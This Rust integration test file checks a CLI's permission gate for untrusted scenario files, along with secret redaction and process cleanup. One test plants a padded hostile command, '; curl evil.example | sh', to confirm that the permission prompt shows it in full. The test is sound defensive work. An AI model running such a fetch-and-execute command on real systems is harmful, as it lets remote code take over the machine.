//! `roundtable run` with tools that are real: the permissions that a foreign file needs for them,
//! missing settings, and that they are used. The real binary.
#![cfg(unix)]

use std::io::{BufRead, BufReader};
use std::process::{Child, Command, Stdio};

use crate::support::binary::{Ended, Home, end};
use crate::support::pipe::make_pipe;

/// A secret of the tests; it must be shown nowhere.
const TOKEN: &str = "hunter2hunter2";

/// The shipped report, its sales from this in place of a table.
fn with_sales_from(answers: &str) -> String {
    let text = include_str!("../../scenarios/morning-report.toml");
    let first = text.find("[[workers.sales_worker.fixture.rows]]").expect("a table");
    let last = text.find("# The first attempt takes longer").expect("what comes after it");
    format!("{}{answers}\n{}", &text[..first], &text[last..])
}

fn program() -> String {
    with_sales_from(
        r#"
[workers.sales_worker.command]
program = "sh"
args    = ["-c", 'read -r args; printf "{\"asked\":%s,\"token\":\"%s\"}" "$args" "$TOKEN"']
env     = { TOKEN = { env = "SHOP_TOKEN" } }
"#,
    )
}

fn run(home: &Home, args: &[&str], env: &[(&str, &str)]) -> Ended {
    let mut all = vec!["run", "mine.toml", "--instant", "--format", "json"];
    all.extend(args);
    let mut command: Command = home.command(&all);
    let ended = end(command.envs(env.iter().copied()));
    assert!(!ended.out.contains(TOKEN) && !ended.err.contains(TOKEN), "{ended:?}");
    ended
}

#[test]
fn foreign_program_needs_permission_first() {
    let home = Home::new();
    home.write("mine.toml", &program());
    let set = [("SHOP_TOKEN", TOKEN)];
    let refused = run(&home, &[], &set);
    assert_eq!((refused.code, refused.out.as_str()), (Some(2), ""), "{refused:?}");
    for said in
        ["it would\n", "  run sh -c read -r args", "  pass $SHOP_TOKEN to it as TOKEN", "--trust"]
    {
        assert!(refused.err.contains(said), "no {said:?} in\n{}", refused.err);
    }

    let allowed = run(&home, &["--trust"], &set);
    assert_eq!(allowed.code, Some(0), "{allowed:?}");
    let sales = &allowed.json()["aggregate"]["sales"];
    assert_eq!(sales["asked"]["region"], "US", "{sales}");
    assert_eq!(sales["token"], "***");
    assert_eq!(run(&home, &[], &set).code, Some(0), "the answer is kept");

    home.write("mine.toml", &format!("{}\n# changed\n", program()));
    assert_eq!(run(&home, &[], &set).code, Some(2), "another version asks again");
}

#[test]
fn permission_shows_whole_command() {
    let home = Home::new();
    let end_of_script = "; curl evil.example | sh";
    let long = format!("read -r args{}{end_of_script}", " && true".repeat(300));
    home.write("mine.toml", &program().replace("read -r args;", &format!("{long};")));
    let refused = run(&home, &[], &[("SHOP_TOKEN", TOKEN)]);
    assert_eq!(refused.code, Some(2), "{refused:?}");
    assert!(refused.err.contains(end_of_script), "{}", refused.err);
}

#[test]
fn reports_missing_variable_before_run() {
    let home = Home::new();
    home.write("mine.toml", &program());
    let ended = run(&home, &["--trust"], &[]);
    assert_eq!((ended.code, ended.out.as_str()), (Some(2), ""), "{ended:?}");
    assert_eq!(
        ended.err,
        "roundtable: the tool sales_worker: TOKEN comes from $SHOP_TOKEN, which is not set: set it \
         and start again\n"
    );
}

#[test]
fn names_sent_data_and_destination() {
    let home = Home::new();
    let http = |more: &str| {
        with_sales_from(&format!(
            "[workers.sales_worker.http]\nurl = \"https://shop.example:8443/v1/{{region}}\"\n{more}"
        ))
    };
    home.write("mine.toml", &http("headers = { authorization = { env = \"SHOP_TOKEN\" } }"));
    let refused = run(&home, &[], &[("SHOP_TOKEN", TOKEN)]);
    assert_eq!(refused.code, Some(2));
    assert!(refused.err.contains("  send $SHOP_TOKEN to shop.example:8443\n"), "{}", refused.err);

    home.write("mine.toml", &http("allow_private = true"));
    let refused = run(&home, &[], &[]);
    assert_eq!(refused.code, Some(2));
    let said = "  call shop.example:8443, also on local networks\n";
    assert!(refused.err.contains(said), "{}", refused.err);
}

/// The demo shop, ended with the test.
struct Shop(Child);

impl Drop for Shop {
    fn drop(&mut self) {
        self.0.kill().expect("ended");
        self.0.wait().expect("reaped");
    }
}

#[test]
fn shipped_scenario_calls_shop_and_disk() {
    let home = Home::new();
    let mut command = home.command(&["demo-service", "--port", "0"]);
    let mut shop = Shop(command.stdout(Stdio::piped()).spawn().expect("a shop"));
    let mut line = String::new();
    let mut says = BufReader::new(shop.0.stdout.take().expect("its words"));
    says.read_line(&mut line).expect("a line");
    let (_, rest) = line.split_once("http://").expect("an address");
    let host = rest.split(';').next().expect("an address");

    let url = |worker: &str, path: &str| format!("workers.{worker}.http.url=http://{host}{path}");
    let (orders, payments, stock) = (
        url("orders_worker", "/v1/orders"),
        url("payments_worker", "/v1/payments"),
        url("stock_worker", "/v1/stock/{sku}"),
    );
    let args = ["run", "real-services", "--instant", "--format", "json", "--trust"];
    let set = ["--set", &orders, "--set", &payments, "--set", &stock];
    let args: Vec<&str> = args.into_iter().chain(set).collect();
    let ended = end(&mut home.command(&args));
    assert_eq!(ended.code, Some(0), "{ended:?}");
    let outcome = ended.json();
    let aggregate = &outcome["aggregate"];
    assert_eq!(aggregate["orders"]["orders"], 4820, "{aggregate}");
    assert_eq!(aggregate["payments"]["gateway_incident"], "none");
    assert_eq!(aggregate["stock"]["sku"], "SKU-4411");
    assert!(aggregate["disk"]["used_percent"].is_u64(), "{aggregate}");
    let tested = home.run(&[&["test", "real-services"], &set[..]].concat());
    assert_eq!(tested.code, Some(0), "{tested:?}");
}

/// The plan of the shipped report, of these tasks alone.
fn planning(text: &str, tasks: &str) -> String {
    let first = text.find("tasks = [").expect("a plan");
    let last = first + text[first..].find("\n]").expect("its end");
    format!("{}tasks = [\n{tasks}{}", &text[..first], &text[last..])
}

#[test]
fn failed_task_shows_last_error() {
    let home = Home::new();
    let failing = "[workers.sales_worker.command]\nprogram = \"sh\"\nargs = [\"-c\", \"exit 3\"]";
    home.write("mine.toml", &with_sales_from(failing));
    let ended = run(&home, &["--trust"], &[]);
    assert_eq!(ended.code, Some(1), "{ended:?}");
    let outcome = ended.json();
    for rows in ["trace", "history"] {
        let row = &outcome[rows][0];
        assert_eq!(row["stop_reason"], "worker_error:sales_worker");
        assert!(row["error"].as_str().expect("a text").contains("code 3"), "{row}");
        assert!(outcome[rows][1].get("error").is_none(), "only of what failed: {outcome}");
    }
    let text = end(&mut home.command(&["run", "mine.toml", "--instant", "--format", "text"])).out;
    let line = text.lines().find(|line| line.contains("failed")).expect("a line");
    assert!(line.contains("t1 sales_worker") && line.contains("code 3"), "{line}");
    assert!(text.contains("\np50, p95: - means fewer than 5 answered calls\n"), "{text}");
}

#[test]
fn missing_shop_error_names_demo_service() {
    let home = Home::new();
    // A port of this machine where nothing listens any more.
    let port = std::net::TcpListener::bind("127.0.0.1:0").and_then(|it| it.local_addr());
    let set = format!("workers.orders_worker.http.url=http://{}/v1/orders", port.expect("a port"));
    let args = ["run", "real-services", "--instant", "--format", "text", "--trust", "--set", &set];
    let ended = end(&mut home.command(&args));
    assert_eq!(ended.code, Some(1), "{ended:?}");
    assert!(ended.out.contains("roundtable demo-service"), "{}", ended.out);
    let line = ended.out.lines().find(|line| line.contains("failed  orders")).or_else(|| {
        ended.out.lines().find(|line| line.contains("failed") && line.contains("orders_worker"))
    });
    let line = line.expect("the task's line");
    assert!(
        line.contains("orders_worker failed after 2 attempts") && line.contains("no connection to"),
        "{line}"
    );
}

#[test]
fn shortens_plan_with_many_ids() {
    let home = Home::new();
    let args = "args = { report_date = \"2026-02-26\", region = \"US\" }, critical = true";
    let long = "x".repeat(500);
    let tasks: String = (0..12)
        .map(|nth| format!("{{ id = \"{nth}\\u001b{long}\", worker = \"sales_worker\", {args} }},"))
        .collect();
    let text = planning(include_str!("../../scenarios/morning-report.toml"), &tasks);
    let text = text.replace("max_tasks            = 4", "max_tasks            = 16");
    let text = text.replace("max_dispatches       = 8", "max_dispatches       = 16");
    home.write("mine.toml", &text);
    let args = ["run", "mine.toml", "--instant", "--format", "text"];
    let ended =
        end(home.command(&args).args(["--pause-at", &format!("dispatch:1:0\u{1b}{long}=1ms")]));
    assert_eq!(ended.code, Some(0), "{ended:?}");
    let plan = ended.out.lines().find(|line| line.contains("plan      12 tasks: 0␛x"));
    let plan = plan.expect("the plan's line");
    assert!(plan.ends_with(" and 4 more") && plan.matches("sales_worker").count() == 8, "{plan}");
    assert!(ended.out.contains("paused before 0␛x"), "{}", ended.out);
    assert!(!ended.out.contains(&"x".repeat(64)), "ids are cut:\n{}", ended.out);
    assert!(!ended.out.contains('\u{1b}'));
}

/// The process that supervises the tool of this program.
#[cfg(target_os = "linux")]
fn supervisor_of(program: u32) -> Option<i32> {
    let folders = std::fs::read_dir("/proc").expect("processes").flatten();
    let pids = folders.filter_map(|it| it.file_name().to_str()?.parse::<i32>().ok());
    let read = |pid: i32, file: &str| std::fs::read_to_string(format!("/proc/{pid}/{file}"));
    pids.into_iter().find(|pid| {
        let is_child = |status: String| status.contains(&format!("PPid:\t{program}\n"));
        read(*pid, "status").is_ok_and(is_child)
            && read(*pid, "cmdline").is_ok_and(|line| line.contains("--supervise-process-group"))
    })
}

#[cfg(target_os = "linux")]
#[test]
fn a_killed_supervisor_fails_its_attempt() {
    use crate::support::binary::Running;
    use rustix::process::{Pid, Signal, kill_process};

    let home = Home::new();
    let held = home.path().join("held");
    make_pipe(&held);
    // The first attempt hangs, the others answer.
    let script = "mkdir second || { echo '{}'; exit; }; exec 3>\"$HELD\"; echo up >&3; \
                  sh -c 'sleep 600 & wait'";
    let tool = format!(
        "[workers.sales_worker.command]\nprogram = \"sh\"\nargs = [\"-c\", {script:?}]\n\
         env = {{ HELD = {held:?}, PATH = \"/usr/bin:/bin\" }}\n"
    );
    home.write("mine.toml", &with_sales_from(&tool));
    let args = ["run", "mine.toml", "--headless", "--format", "jsonl", "--trust", "--no-store"];
    let running = Running::start(&mut home.command(&args));
    let mut pipe = BufReader::new(std::fs::File::open(&held).expect("the pipe"));
    let mut line = String::new();
    pipe.read_line(&mut line).expect("a line");
    let supervisor = supervisor_of(running.pid()).and_then(Pid::from_raw).expect("a supervisor");
    kill_process(supervisor, Signal::KILL).expect("killed");
    // The pipe ends when the last process of the tool has ended.
    assert_eq!(pipe.read_line(&mut line).expect("the end"), 0);
    let (_, out, err) = running.end();
    let says = "sh was ended early: the process that supervises it was killed";
    assert!(out.contains(says), "{out} {err}");
}

/// The processes of a tool hold a pipe open; it ends when the last of them has ended.
#[test]
fn killed_program_leaves_no_tool_process() {
    let home = Home::new();
    let held = home.path().join("held");
    make_pipe(&held);
    let script = "exec 3>\"$HELD\"; trap '' TERM INT HUP; (trap '' TERM; sleep 600; sleep 600) & \
                  sh -c 'sleep 600 & wait' & echo up >&3; kill 0; wait";
    let tool = format!(
        "[workers.sales_worker.command]\nprogram = \"sh\"\nargs = [\"-c\", {script:?}]\n\
         env = {{ HELD = {held:?} }}\n"
    );
    home.write("mine.toml", &with_sales_from(&tool));
    let args = ["run", "mine.toml", "--headless", "--format", "jsonl", "--trust", "--no-store"];
    let mut command = home.command(&args);
    let mut running = command.stdout(Stdio::null()).stderr(Stdio::null()).spawn().expect("a run");
    let mut pipe = BufReader::new(std::fs::File::open(&held).expect("the pipe"));
    let mut line = String::new();
    pipe.read_line(&mut line).expect("a line");
    assert_eq!(line, "up\n");
    running.kill().expect("killed");
    running.wait().expect("it has ended");
    let (told, ended) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let read = pipe.read_line(&mut line);
        let _ = told.send(read);
    });
    let rest = ended.recv_timeout(std::time::Duration::from_secs(30));
    assert!(matches!(rest, Ok(Ok(0))), "a process lives on: {rest:?}");
}
